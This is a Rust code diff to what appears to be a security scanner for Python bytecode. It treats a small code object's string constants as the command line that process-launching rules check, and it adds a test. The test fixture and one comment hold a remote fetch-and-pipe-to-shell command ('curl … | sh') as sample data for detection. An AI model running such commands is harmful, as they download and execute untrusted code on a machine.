@@ -431,6 +431,11 @@ const MODULES: &[&str] = &[
     "winreg",
 ];
 
+/// A code object with more string constants than this is not read for a command line.
+const MAX_COMMAND_CONSTANTS: usize = 12;
+/// Nor is a constant longer than this part of one.
+const MAX_COMMAND_CHARS: usize = 2048;
+
 /// The facts bytecode gives: per code object, every source and sink its names resolve to,
 /// flows from each source to each sink it names together, and its string constants analysed
 /// when they are code.
@@ -481,14 +486,29 @@ pub fn analyse_bytecode(codes: &[CodeObject]) -> Analysis {
         for &source in &sources {
             out.seen.push((source, at.clone()));
         }
+        // a process's command line is among the code object's one-line string constants
+        // (`os.system('curl … | sh')`, `Popen(['curl', '-o', '/tmp/x', u])`): bytecode keeps
+        // no call expressions, so the rules that read a command read those of a small code
+        // object, in order; a large one's constants are not one command
+        let command = if code.strings.len() <= MAX_COMMAND_CONSTANTS {
+            code.strings
+                .iter()
+                .filter(|s| s.len() <= MAX_COMMAND_CHARS && !s.contains('\n'))
+                .map(String::as_str)
+                .collect::<Vec<_>>()
+                .join(" ")
+        } else {
+            String::new()
+        };
         for (sink, name) in &sinks {
             out.calls.push(CallFact {
                 sink: *sink,
                 name: name.clone(),
                 at: at.clone(),
-                // every constant of a function is not its command line: no text for the rules
-                // that read one
-                text: String::new(),
+                text: match sink {
+                    crate::Sink::Process => command.clone(),
+                    _ => String::new(),
+                },
                 constant: sources.is_empty(),
                 top_level: code.name == "<module>",
             });
@@ -603,6 +623,36 @@ mod tests {
                 "{version}: {facts:?}"
             );
         }
+    }
+
+    #[test]
+    fn a_small_code_objects_constants_are_its_command_line() {
+        let code = CodeObject {
+            name: "<module>".into(),
+            line: 1,
+            names: vec!["os".into(), "system".into()],
+            strings: vec!["curl -s http://h/x | sh".into(), "a\nmultiline text".into()],
+        };
+        let process = |codes: &[CodeObject]| {
+            analyse_bytecode(codes)
+                .calls
+                .into_iter()
+                .find(|c| c.sink == crate::Sink::Process)
+                .expect("os.system is a process")
+        };
+        assert_eq!(
+            process(std::slice::from_ref(&code)).text,
+            "curl -s http://h/x | sh"
+        );
+        // a large code object's constants are not one command
+        let big = CodeObject {
+            strings: (0..MAX_COMMAND_CONSTANTS)
+                .map(|i| format!("s{i}"))
+                .chain(code.strings.iter().cloned())
+                .collect(),
+            ..code
+        };
+        assert_eq!(process(&[big]).text, "");
     }
 
     #[test]
